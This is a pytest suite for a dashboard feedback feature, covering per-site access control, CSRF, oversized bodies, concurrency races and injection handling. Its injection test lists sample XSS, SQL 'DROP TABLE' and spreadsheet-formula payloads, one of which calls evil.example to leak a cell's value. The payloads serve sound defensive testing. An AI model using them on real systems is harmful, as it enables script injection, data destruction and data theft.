"""Two-way feedback on the site dashboards (issue 16): a site user comments on each section and
corrects its scheme register; comments are stored with who and when, shown to the evaluation team,
exported for the workshop pack. Access across sites, CSRF, abuse (huge and odd bodies) and injection
(HTML, SQL, spreadsheet formulas) in-process; races of one user's posts and edits against a real
`joinedup serve` on SQLite and on PostgreSQL. A 500 anywhere fails the test.
"""

import io
import os
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from tests.test_web_admin import login_post
from tests.test_web_durability import SECRET, _port
from tests.test_web_races import _together
from tests.test_web_sites import PASSWORD, _results

from joinedup.survey.store import SurveyStore
from joinedup.web.app import create_app
from joinedup.web.config import WebSettings
from joinedup.web.feedback import MAX_COMMENT_CHARS, Feedback


@pytest.fixture
def app(tmp_path):
    app = create_app(WebSettings(store_url=f"sqlite:///{tmp_path / 's.db'}", results=_results(tmp_path / "run")))
    store = app.state.ctx.store
    store.add_user("barnsley", PASSWORD, "site", "Barnsley")
    store.add_user("barnsley2", PASSWORD, "site", "Barnsley")
    store.add_user("leeds", PASSWORD, "site", "Leeds")
    store.add_user("nhse", PASSWORD, "programme")
    return app


def _client(app, user):
    c = TestClient(app, raise_server_exceptions=False)
    assert login_post(c, user, PASSWORD).status_code == 200
    return c


def _csrf(client, site="Barnsley"):
    page = client.get(f"/sites/{site}").text
    return page.split('name="csrf" value="')[1].split('"')[0]


def _comments(app):
    return app.state.ctx.feedback.comments()


def test_comment_is_stored_with_who_and_when_and_shown_to_the_team(app):
    lead = _client(app, "barnsley")
    r = lead.post("/sites/Barnsley/comments", data={"csrf": _csrf(lead), "section": "spine",
                                                     "body": "Our A&E figure\r\nlooks low"}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].endswith("#comments-spine")
    stored = _comments(app)
    assert stored[["site", "section", "author", "body", "versions"]].values.tolist() == [
        ["Barnsley", "spine", "barnsley", "Our A&E figure\nlooks low", 1]]
    assert (pd.Timestamp.now("UTC").tz_localize(None) - stored["created_at"].iloc[0]) < pd.Timedelta(minutes=5)
    page = lead.get("/sites/Barnsley").text
    assert "Comments on this section (1)" in page and "Our A&amp;E figure\nlooks low" in page
    team = _client(app, "nhse").get("/feedback")
    assert team.status_code == 200 and "Our A&amp;E figure" in team.text and "barnsley" in team.text


def test_sections_and_corrections_and_edits(app):
    lead = _client(app, "barnsley")
    csrf = _csrf(lead)
    for section in ("spc", "impact", "schemes", "survey", "general"):
        assert lead.post("/sites/Barnsley/comments", data={"csrf": csrf, "section": section, "body": section},
                         follow_redirects=False).status_code == 303
    cid = int(_comments(app).query("section == 'impact'")["id"].iloc[0])
    assert lead.post(f"/sites/Barnsley/comments/{cid}", data={"csrf": csrf, "body": "impact, edited"},
                     follow_redirects=False).status_code == 303
    r = lead.post("/sites/Barnsley/schemes", data={"csrf": csrf, "scheme_id": "barnsley-01", "field": "target_group",
                                                   "proposed": "people over 75"}, follow_redirects=False)
    assert r.status_code == 303
    fb = app.state.ctx.feedback
    corr = fb.corrections()
    assert corr[["site", "scheme_id", "field", "current_value", "proposed_value", "author"]].values.tolist() == [
        ["Barnsley", "barnsley-01", "target_group", "frail_elderly", "people over 75", "barnsley"]]
    versions = fb.versions()
    assert versions.query("comment_id == @cid")["body"].tolist() == ["impact", "impact, edited"]
    page = lead.get("/sites/Barnsley").text
    assert "impact, edited" in page and "(edited, version 2)" in page and "people over 75" in page
    # a scheme missing from the register, and refusals that store nothing
    assert lead.post("/sites/Barnsley/schemes", data={"csrf": csrf, "scheme_id": "new", "field": "description",
                                                      "proposed": "falls service"}, follow_redirects=False).status_code == 303
    for bad in ({"scheme_id": "leeds-01", "field": "target_group", "proposed": "x"},
                {"scheme_id": "barnsley-01", "field": "password_hash", "proposed": "x"},
                {"scheme_id": "barnsley-01", "field": "target_group", "proposed": "   "}):
        assert lead.post("/sites/Barnsley/schemes", data={"csrf": csrf, **bad}).status_code == 400
    assert len(fb.corrections()) == 2


def test_site_users_touch_only_their_own_site(app):
    lead, other, leeds = _client(app, "barnsley"), _client(app, "barnsley2"), _client(app, "leeds")
    csrf = _csrf(lead)
    lead.post("/sites/Barnsley/comments", data={"csrf": csrf, "section": "spine", "body": "Barnsley only"})
    cid = int(_comments(app)["id"].iloc[0])
    # another site's dashboard, comments, edits and corrections: 404, nothing stored or changed
    assert lead.post("/sites/Leeds/comments", data={"csrf": csrf, "section": "spine", "body": "x"}).status_code == 404
    assert lead.post("/sites/Leeds/schemes", data={"csrf": csrf, "scheme_id": "leeds-01", "field": "status",
                                                   "proposed": "x"}).status_code == 404
    leeds_csrf = _csrf(leeds, "Leeds")
    assert leeds.post(f"/sites/Barnsley/comments/{cid}", data={"csrf": leeds_csrf, "body": "hijack"}).status_code == 404
    assert leeds.post(f"/sites/Leeds/comments/{cid}", data={"csrf": leeds_csrf, "body": "hijack"}).status_code == 404
    assert "Barnsley only" not in leeds.get("/sites/Leeds").text
    # a colleague on the same site sees the comment but may not edit it
    assert "Barnsley only" in other.get("/sites/Barnsley").text
    assert other.post(f"/sites/Barnsley/comments/{cid}", data={"csrf": _csrf(other), "body": "x"}).status_code == 404
    assert _comments(app)[["site", "body", "versions"]].values.tolist() == [["Barnsley", "Barnsley only", 1]]
    # the team's page and the exports are not for site users
    for path in ("/feedback", "/feedback/comments.csv", "/feedback/versions.csv", "/feedback/corrections.csv"):
        assert lead.get(path).status_code == 403
        assert TestClient(app).get(path, follow_redirects=False).status_code == 303  # signed out: to login


def test_csrf_is_checked_on_every_feedback_form(app):
    lead = _client(app, "barnsley")
    good = _csrf(lead)
    lead.post("/sites/Barnsley/comments", data={"csrf": good, "section": "spine", "body": "first"})
    cid = int(_comments(app)["id"].iloc[0])
    forms = [("/sites/Barnsley/comments", {"section": "spine", "body": "x"}),
             (f"/sites/Barnsley/comments/{cid}", {"body": "x"}),
             ("/sites/Barnsley/schemes", {"scheme_id": "barnsley-01", "field": "status", "proposed": "x"})]
    for path, data in forms:
        assert lead.post(path, data=data).status_code == 403
        assert lead.post(path, data={**data, "csrf": "forged"}).status_code == 403
        # another session's token does not do either
        assert lead.post(path, data={**data, "csrf": _csrf(_client(app, "barnsley2"))}).status_code == 403
    assert _comments(app)["body"].tolist() == ["first"] and app.state.ctx.feedback.corrections().empty


def test_abuse_huge_odd_and_malformed_bodies_never_500(app):
    lead = _client(app, "barnsley")
    csrf = _csrf(lead)
    post = "/sites/Barnsley/comments"
    form = "application/x-www-form-urlencoded"
    cases = {
        "huge body": (b"csrf=" + csrf.encode() + b"&section=spine&body=" + b"a" * 2_000_000, form, 413),
        "one char over the limit": (f"csrf={csrf}&section=spine&body={'b' * (MAX_COMMENT_CHARS + 1)}".encode(), form, 400),
        "invalid UTF-8": (f"csrf={csrf}&section=spine&body=%FF%FE".encode(), form, 400),
        "raw non-ASCII bytes": (f"csrf={csrf}&section=spine&body=".encode() + "é".encode("latin-1"), form, 400),
        "NUL": (f"csrf={csrf}&section=spine&body=a%00b".encode(), form, 400),
        "empty": (f"csrf={csrf}&section=spine&body=%20%0A".encode(), form, 400),
        "unknown section": (f"csrf={csrf}&section=passwords&body=x".encode(), form, 400),
        "JSON": (b'{"csrf": "' + csrf.encode() + b'", "body": "x"}', "application/json", 415),
        "multipart": (b"--x\r\n", "multipart/form-data; boundary=x", 415),
    }
    for name, (body, kind, status) in cases.items():
        r = lead.post(post, content=body, headers={"content-type": kind})
        assert r.status_code == status, (name, r.status_code, r.text[:200])
    # a body sent without a length (chunked) is cut off at the cap as well
    def chunks():
        yield f"csrf={csrf}&section=spine&body=".encode()
        for _ in range(100):
            yield b"c" * 10_000
    r = lead.post(post, content=chunks(), headers={"content-type": form})
    assert r.status_code == 413
    # odd ids: not an integer (422 from validation), beyond the database's integer, negative
    assert lead.post("/sites/Barnsley/comments/abc", data={"csrf": csrf, "body": "x"}).status_code == 422
    for cid in ("99999999999999999999", "-1", "0"):
        assert lead.post(f"/sites/Barnsley/comments/{cid}", data={"csrf": csrf, "body": "x"}).status_code == 404
    # the longest comment allowed fits, in 4-byte characters, percent-encoded, under the cap
    assert lead.post(post, data={"csrf": csrf, "section": "spine", "body": "\U0001F600" * MAX_COMMENT_CHARS},
                     follow_redirects=False).status_code == 303
    assert _comments(app)["body"].str.len().tolist() == [MAX_COMMENT_CHARS]  # nothing else was stored


def test_injection_is_stored_verbatim_shown_escaped_and_exported_safely(app):
    lead = _client(app, "barnsley")
    csrf = _csrf(lead)
    bodies = ['<script>alert("x")</script><img src=x onerror=alert(1)>',
              "'); DROP TABLE site_comments; --",
              '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1:A9)", "-2+3"]
    for b in bodies:
        assert lead.post("/sites/Barnsley/comments", data={"csrf": csrf, "section": "general", "body": b},
                         follow_redirects=False).status_code == 303
    lead.post("/sites/Barnsley/schemes", data={"csrf": csrf, "scheme_id": "barnsley-01", "field": "status",
                                               "proposed": "=1+1<b>bold</b>"})
    assert _comments(app)["body"].tolist() == bodies  # the SQL text was data, the table is intact
    for page in (lead.get("/sites/Barnsley").text, _client(app, "nhse").get("/feedback").text):
        assert "<script>alert" not in page and "<img src=x" not in page and "<b>bold</b>" not in page
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page or "&lt;script&gt;alert(&quot;x&quot;)" in page
    team = _client(app, "nhse")
    comments = pd.read_csv(io.StringIO(team.get("/feedback/comments.csv").text), keep_default_na=False)
    assert comments["body"].tolist()[2:] == ["'" + b for b in bodies[2:]]  # formulas neutralised
    assert comments["body"].tolist()[:2] == bodies[:2]
    assert comments["section_title"].unique().tolist() == ["Anything else"]
    corrections = pd.read_csv(io.StringIO(team.get("/feedback/corrections.csv").text), keep_default_na=False)
    assert corrections["proposed_value"].tolist() == ["'=1+1<b>bold</b>"]
    versions = team.get("/feedback/versions.csv")
    assert versions.status_code == 200 and versions.headers["content-type"].startswith("text/csv")
    assert team.get("/feedback/secrets.csv").status_code == 404


# -- races against a real server, SQLite and PostgreSQL ------------------------------------------------------

@pytest.fixture(params=["sqlite", "postgresql"])
def served(request, tmp_path, pg_server):
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'survey.db'}"
    else:
        url = pg_server.create_database(f"f_{tmp_path.name.lower().replace('-', '_')[:40]}")
    yield from _served(url, tmp_path)


def _served(url, tmp_path):
    """A real `joinedup serve` with the hand-made run's tables; yields its address, a signed-in site
    user's cookies and CSRF token, and the store."""
    store = SurveyStore(url)
    store.create()
    store.add_user("barnsley", PASSWORD, "site", "Barnsley")
    port = _port()
    env = {**os.environ, "JOINEDUP_SECRET": SECRET}
    proc = subprocess.Popen([str(Path(sys.executable).parent / "joinedup"), "serve", "--store", url, "--port",
                             str(port), "--results", str(_results(tmp_path / "run"))], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    for _ in range(600):
        try:
            httpx.get(base + "/admin/login", timeout=0.5)
            break
        except httpx.HTTPError:
            time.sleep(0.1)
    else:
        proc.kill()
        pytest.fail("the server did not start")
    cookies = http_login(base, "barnsley")
    page = httpx.get(base + "/sites/Barnsley", cookies=cookies, timeout=60).text
    csrf = page.split('name="csrf" value="')[1].split('"')[0]
    try:
        yield base, cookies, csrf, store
    finally:
        proc.terminate()
        proc.wait()
        store.engine.dispose()


def http_login(base, user):
    """Sign in to a served app as a browser does (the form's CSRF token and pre-session cookie);
    returns the session's cookies."""
    with httpx.Client(base_url=base, timeout=60) as c:
        token = c.get("/admin/login").text.split('name="csrf" value="')[1].split('"')[0]
        r = c.post("/admin/login", data={"username": user, "password": PASSWORD, "csrf": token})
        assert r.status_code in (200, 303), r.text[:300]
        return dict(c.cookies)


def _post(base, cookies, path, data):
    # one connection per request, as separate tabs or double clicks would open
    return httpx.post(base + path, data=data, cookies=cookies, timeout=60, follow_redirects=False)


def _stored(store, sql):
    with store.engine.connect() as c:
        return pd.read_sql(sql, c)


def test_same_user_racing_posts_and_edits_lose_nothing(served):
    base, cookies, csrf, store = served
    n_posts, n_edits = 40, 24
    # 40 comments posted by one user in bursts of 8 at the same instant (double clicks, several tabs)
    bursts = [[lambda i=i: _post(base, cookies, "/sites/Barnsley/comments",
                                 {"csrf": csrf, "section": "spine", "body": f"comment {i}"})
               for i in range(k, k + 8)] for k in range(0, n_posts, 8)]
    with ThreadPoolExecutor(2) as pool:
        posted = [r for burst in pool.map(_together, bursts) for r in burst]
    assert [r.status_code for r in posted] == [303] * n_posts
    stored = _stored(store, "SELECT id, body FROM site_comments ORDER BY id")
    assert sorted(stored["body"]) == sorted(f"comment {i}" for i in range(n_posts))
    # 24 edits of one comment at once: every version is kept, numbered 1..25, the comment shows the last
    cid = int(stored["id"].iloc[0])
    edits = _together([lambda j=j: _post(base, cookies, f"/sites/Barnsley/comments/{cid}",
                                         {"csrf": csrf, "body": f"edit {j}"}) for j in range(n_edits)])
    assert [r.status_code for r in edits] == [303] * n_edits
    versions = _stored(store, f"SELECT version, body FROM site_comment_versions WHERE comment_id = {cid} ORDER BY version")
    assert versions["version"].tolist() == list(range(1, n_edits + 2))
    assert sorted(versions["body"][1:]) == sorted(f"edit {j}" for j in range(n_edits))
    shown = _stored(store, f"SELECT body, versions FROM site_comments WHERE id = {cid}")
    assert shown.values.tolist() == [[versions["body"].iloc[-1], n_edits + 1]]
    # the page still renders with everything on it
    page = httpx.get(base + "/sites/Barnsley", cookies=cookies, timeout=60)
    assert page.status_code == 200 and "Comments on this section (40)" in page.text


def test_dashboard_in_chromium_reads_and_takes_a_comment(tmp_path):
    """As a site lead at 1280 px and 390 px: no console errors (the inline SVG charts pass the app's
    CSP), nothing wider than the screen, every table captioned, and a comment sent through the page's
    own form (its CSRF token) comes back on the page, escaped."""
    from playwright.sync_api import sync_playwright

    from joinedup.report.pdf import chromium_path

    if chromium_path() is None:
        pytest.fail("needs Debian's chromium (make browser)")
    gen = _served(f"sqlite:///{tmp_path / 'survey.db'}", tmp_path)
    base, _, _, store = next(gen)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
            for width in (1280, 390):
                page = browser.new_page(viewport={"width": width, "height": 900})
                errors = []
                page.on("console", lambda m, errors=errors: errors.append(m.text) if m.type == "error" else None)
                page.goto(base + "/admin/login")
                page.fill("#username", "barnsley")
                page.fill("#password", PASSWORD)
                page.click("button[type=submit]")
                page.wait_for_url("**/sites/Barnsley")
                assert page.locator("svg.chart").count() >= 2  # the SPC chart and the estimates
                assert page.locator("svg.icon").count() >= 2  # variation and assurance icons
                assert page.evaluate("[...document.querySelectorAll('table')].filter(t => !t.caption).length") == 0
                page.click("#comments-impact summary")
                page.fill("#new-impact", f"<b>At {width} px</b> the estimate looks right")
                page.click("#comments-impact > form button[type=submit]")
                page.wait_for_load_state()
                assert page.locator("#comments-impact .comment .body").last.inner_text() == \
                    f"<b>At {width} px</b> the estimate looks right"
                assert page.evaluate("document.documentElement.scrollWidth - window.innerWidth") <= 0, width
                assert errors == [], (width, errors)
                page.screenshot(path=str(tmp_path / f"dashboard-{width}.png"), full_page=True)
            browser.close()
    finally:
        gen.close()
    assert len(Feedback(store).comments()) == 2
